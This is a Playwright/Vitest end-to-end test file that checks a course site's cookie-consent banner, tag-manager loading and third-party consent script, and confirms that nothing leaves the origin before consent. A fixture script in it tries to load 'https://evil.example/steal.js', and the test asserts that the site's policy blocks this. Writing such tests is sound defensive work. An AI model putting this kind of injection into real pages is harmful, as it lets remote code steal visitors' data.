import { once } from 'node:events';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright';
import { describe, expect, inject, it } from 'vitest';
import { contentTree } from '../server/src/testing/content.ts';
import { testConfig } from '../server/src/testing/server.ts';
import { dailyOf, expectInOrder, leavesUs, startWorld } from './world.ts';
import { whenDone } from '../server/src/testing/when-done.ts';

/** Fakes third-party hosts: a tag manager that loads more, and a tool that asks for consent. */
const SCRIPTS: Record<string, string> = {
  '/gtm.js': `
    window.tagManagerSaw = dataLayer.map((item) => Array.from(item).length ? Array.from(item) : item);
    const more = document.createElement('script');
    more.src = new URL('/more.js', document.currentScript.src).href;
    document.head.append(more);
    try {
      const other = document.createElement('script');
      other.src = 'https://evil.example/steal.js';
      document.head.append(other);
      window.otherHost = 'let in';
    } catch { window.otherHost = 'kept out'; }
    try { document.body.insertAdjacentHTML('beforeend', '<p>from elsewhere</p>'); window.html = 'let in'; }
    catch { window.html = 'kept out'; }`,
  '/more.js': 'window.moreCame = true;',
  '/ask.js': `
    window.requestConsent = (update) => { (function () { dataLayer.push(arguments); })('consent', 'update', update); };
    document.addEventListener('consent-settings', () => { window.askedAgain = true; });`,
};
const requested: string[] = [];
const elsewhere = createServer((request, response) => {
  requested.push(request.url ?? '');
  const script = SCRIPTS[(request.url ?? '').split('?')[0] ?? ''];
  response.writeHead(script ? 200 : 404, { 'content-type': 'text/javascript' }).end(script);
});
elsewhere.listen(0, '127.0.0.1');
await once(elsewhere, 'listening');
whenDone(() => void elsewhere.close());
const ELSEWHERE = `http://127.0.0.1:${(elsewhere.address() as AddressInfo).port}`;

const tree = contentTree();
for (const tenantId of ['spring', 'kube'])
  tree.edit(`${tenantId}/tenant.yaml`, (text) => `${text}\ntagManagerId: GTM-${tenantId.toUpperCase()}\n`);
const { folders } = testConfig({});
const tagged = { ...folders, tenants: tree.folder };
const plain = { ...folders, tenants: contentTree().folder };
const thirdParties = {
  tagManager: { url: `${ELSEWHERE}/gtm.js`, ids: {} },
  consentScriptUrl: null,
  sources: [],
  userIdGlobal: 'academyUserId',
};

const own = await startWorld({ folders: tagged, thirdParties });
/** Other tests only run in a full run. */
const startInFull: typeof startWorld = async (...given) => (inject('full') ? startWorld(...given) : own);
const off = await startInFull({ folders: plain });
const tool = await startInFull({
  folders: tagged,
  thirdParties: { ...thirdParties, consentScriptUrl: `${ELSEWHERE}/ask.js` },
});

const untagged = await startInFull(
  {
    folders: plain,
    thirdParties: { ...thirdParties, tagManager: null, consentScriptUrl: `${ELSEWHERE}/ask.js` },
  },
  { keys: 'provider' },
);

const banner = (page: Page) => page.getByRole('region', { name: 'May we count visits?' });
const settings = (page: Page) =>
  page.getByRole('contentinfo').getByRole('button', { name: 'Cookie settings' });
/** A value that a third-party script left on the page. */
const left = (page: Page, name: string) =>
  page.evaluate((key) => (globalThis as unknown as Record<string, unknown>)[key] ?? null, name);
const layer = async (page: Page) =>
  page.evaluate(() =>
    ((globalThis as unknown as { dataLayer?: object[] }).dataLayer ?? []).map((item) =>
      'length' in item ? Array.from(item as ArrayLike<unknown>) : { ...item },
    ),
  );
const pagesIn = async (page: Page) =>
  (await layer(page)).flatMap((item) => ('page_path' in item ? [item['page_path']] : []));
const ready = async (page: Page) => {
  await page.locator('#root h1').first().waitFor();
  await page.waitForLoadState('networkidle');
};

/** Requests that leave the origin of the page. */
function leaks(page: Page): string[] {
  const found: string[] = [];
  page.on('request', (request) => {
    if (leavesUs(request.url())) found.push(request.url());
  });
  return found;
}

describe('with the flag off', () => {
  it(
    'CON-04 the configured consent script asks and gets the user id, without the tag manager',
    { tags: 'full' },
    async () => {
      const { page } = await untagged.openAs('ada', { tenantId: 'kube', mayFail: /./ });
      const found = leaks(page);
      await untagged.visit(page, 'kube', '/');
      await page.waitForFunction(() => 'requestConsent' in globalThis);
      await expect.poll(() => left(page, 'academyUserId')).not.toBeNull();
      await page.evaluate(() => {
        const tool = globalThis as unknown as { requestConsent: (choice: object) => void };
        tool.requestConsent({ analytics_storage: 'granted' });
      });
      await ready(page);
      expect(found).toEqual([`${ELSEWHERE}/ask.js`]);
      expect([await banner(page).count(), await settings(page).count()]).toEqual([0, 1]);
      await page.context().close();
    },
  );

  // The walk through all public routes checks that none of them loads anything from elsewhere.
  it.for(dailyOf(['spring', 'kube', 'tanzu'], 1))(
    'CON-04, CON-06 no consent dialog appears in %s, and nothing leaves our origin, also at login',
    { tags: 'full' },
    async (tenantId) => {
      const { page } = await off.openPage({ mayFail: /./ });
      const found = leaks(page);
      await off.visit(page, tenantId, '/');
      await ready(page);
      expect([await banner(page).count(), await settings(page).count()]).toEqual([0, 0]);
      expect(await left(page, 'dataLayer')).toBeNull();
      for (const path of ['/admin', '/auth']) {
        await off.visit(page, tenantId, path);
        await page.waitForLoadState('networkidle');
      }
      expect(found).toEqual([]);
      await page.context().close();
    },
  );
});

describe('our own banner', () => {
  it('CON-06 loads nothing before the user accepts or after they decline', async () => {
    const { page, troubles } = await own.openPage();
    const found = leaks(page);
    await own.visit(page, 'kube', '/');
    await banner(page).waitFor();
    await ready(page);
    await banner(page).getByRole('button', { name: 'Decline' }).click();
    await banner(page).waitFor({ state: 'detached' });
    await own.visit(page, 'kube', '/courses');
    await ready(page);
    await expect.poll(() => banner(page).count()).toBe(0);
    expect(found).toEqual([]);
    // Until a choice is made everything is denied by the first entry of the data layer.
    expect((await layer(page))[0]).toEqual([
      'consent',
      'default',
      {
        analytics_storage: 'denied',
        ad_storage: 'denied',
        ad_user_data: 'denied',
        ad_personalization: 'denied',
        wait_for_update: 500,
      },
    ]);
    expect(troubles).toEqual([]);
    await page.context().close();
  });

  it('CON-04 loads the tag manager with the tenant’s id once the user accepts, and reports each page to it', async () => {
    const { page, troubles } = await own.openPage({ mayFail: /127\.0\.0\.1/ });
    const found = leaks(page);
    await own.visit(page, 'kube', '/');
    await banner(page).getByRole('button', { name: 'Accept all' }).click();
    await page.waitForFunction(() => 'moreCame' in globalThis);
    expect(found).toEqual([`${ELSEWHERE}/gtm.js?id=GTM-KUBE`, `${ELSEWHERE}/more.js`]);
    expect(await left(page, 'otherHost')).toBe('kept out');
    expect(await left(page, 'html')).toBe('kept out');
    const saw = (await left(page, 'tagManagerSaw')) as unknown[][];
    expect(saw.slice(0, 2).map((item) => item.slice(0, 2))).toEqual([
      ['consent', 'default'],
      ['consent', 'update'],
    ]);
    expect(saw[1]?.[2]).toMatchObject({ analytics_storage: 'granted', ad_storage: 'granted' });

    await page.getByRole('link', { name: 'Browse Courses' }).first().click();
    await page.waitForURL(/\/courses$/);
    await expect.poll(() => pagesIn(page)).toEqual(['/', '/courses']);
    expect((await layer(page)).at(-1)).toMatchObject({
      event: 'page_view',
      page_title: 'Courses - Kube Academy',
    });
    expect(troubles.filter((trouble) => !/evil|TrustedHTML|TrustedScriptURL/.test(trouble))).toEqual([]);

    // The choice is stored, and does not depend on the login.
    found.length = 0;
    await own.visit(page, 'kube', '/auth');
    await page.waitForLoadState('networkidle');
    expect(found).toEqual([]);
    expect(await left(page, 'dataLayer')).toBeNull();
    await own.visit(page, 'kube', '/courses');
    await page.waitForFunction(() => 'moreCame' in globalThis);
    await expect.poll(() => banner(page).count()).toBe(0);
    await page.context().close();
  });

  it('CON-06 lets users choose, change their choice and withdraw it', { tags: 'full' }, async () => {
    const { page } = await own.openPage({ mayFail: /./ });
    await own.visit(page, 'spring', '/');
    await banner(page).getByRole('button', { name: 'Choose' }).click();
    await banner(page)
      .getByRole('checkbox', { name: /^Statistics/ })
      .check();
    await banner(page).getByRole('button', { name: 'Save choice' }).click();
    await page.waitForFunction(() => 'moreCame' in globalThis);
    const updates = async () =>
      (await layer(page)).flatMap((item) =>
        Array.isArray(item) && item[1] === 'update' ? [item[2] as Record<string, string>] : [],
      );
    expect((await updates()).at(-1)).toMatchObject({ analytics_storage: 'granted', ad_storage: 'denied' });

    await settings(page).click();
    await banner(page).waitFor();
    expect(
      await banner(page)
        .getByRole('checkbox', { name: /^Statistics/ })
        .isChecked(),
    ).toBe(true);
    await expect
      .poll(() => page.evaluate(() => document.activeElement?.textContent))
      .toBe('May we count visits?');
    await page.keyboard.press('Escape');
    await banner(page).waitFor({ state: 'detached' });
    await expect.poll(() => page.evaluate(() => document.activeElement?.textContent)).toBe('Cookie settings');

    await settings(page).click();
    const found = leaks(page);
    await Promise.all([
      page.waitForEvent('load'),
      banner(page).getByRole('button', { name: 'Decline' }).click(),
    ]);
    await ready(page);
    expect(found).toEqual([]);
    expect(await left(page, 'moreCame')).toBeNull();
    await page.context().close();
  });

  it(
    'CON-04 sets the user id under the configured name while the user is logged in',
    { tags: 'full' },
    async () => {
      const accessToken = await own.server.signToken({ subject: 'ada' });
      const stored = [
        { name: 'accessToken', value: accessToken },
        { name: 'expiresAt', value: String(Date.now() + 600_000) },
      ];
      const origins = [{ origin: own.server.origin('kube'), localStorage: stored }];
      const { page } = await own.openPage({ storageState: { cookies: [], origins }, mayFail: /./ });
      await own.visit(page, 'kube', '/');
      await page.getByRole('button', { name: /^Profile menu/ }).waitFor();
      const { rows } = await own.server.database.pool.query<{ id: string }>(
        `select id from users where subject = 'ada'`,
      );
      await expect.poll(() => left(page, 'academyUserId')).toBe(rows[0]?.id);
      await page.evaluate(() => {
        localStorage.removeItem('accessToken');
        dispatchEvent(new StorageEvent('storage'));
      });
      await expect.poll(() => left(page, 'academyUserId')).toBeNull();
      await page.context().close();
    },
  );

  it('CON-06, LAY-13 is accessible, and covers nothing permanently', { tags: 'full' }, async () => {
    const { page, troubles } = await own.openPage();
    await own.visit(page, 'kube', '/contact');
    await banner(page).getByRole('button', { name: 'Choose' }).click();
    await expectInOrder(page);
    await page.evaluate(() => scrollTo(0, document.documentElement.scrollHeight));
    const above = await banner(page).boundingBox();
    const last = await settings(page).boundingBox();
    expect((last?.y ?? 0) + (last?.height ?? 0)).toBeLessThanOrEqual(above?.y ?? 0);
    expect(troubles).toEqual([]);
    await page.context().close();
  });

  it('CON-06 is absent if the tenant has no id, even with the flag on', { tags: 'full' }, async () => {
    const { page } = await own.openPage();
    const found = leaks(page);
    await own.visit(page, 'tanzu', '/');
    await ready(page);
    expect([await banner(page).count(), await settings(page).count()]).toEqual([0, 0]);
    expect(found).toEqual([]);
    await page.context().close();
  });
});

describe('a configured consent script', () => {
  it(
    'CON-04 asks instead of our banner, and the tag manager waits for its answer',
    { tags: 'full' },
    async () => {
      const { page } = await tool.openPage({ mayFail: /./ });
      const found = leaks(page);
      await tool.visit(page, 'kube', '/');
      await page.waitForFunction(() => 'requestConsent' in globalThis);
      await ready(page);
      expect(found).toEqual([`${ELSEWHERE}/ask.js`]);
      await expect.poll(() => banner(page).count()).toBe(0);
      await settings(page).click();
      expect(await left(page, 'askedAgain')).toBe(true);
      const say = (update: Record<string, string>) =>
        page.evaluate((choice) => {
          (globalThis as unknown as { requestConsent: (choice: object) => void }).requestConsent(choice);
        }, update);
      await say({ analytics_storage: 'denied' });
      await say({ analytics_storage: 'granted' });
      await page.waitForFunction(() => 'moreCame' in globalThis);
      expect(found.slice(1)).toEqual([`${ELSEWHERE}/gtm.js?id=GTM-KUBE`, `${ELSEWHERE}/more.js`]);
      await page.context().close();
    },
  );
});
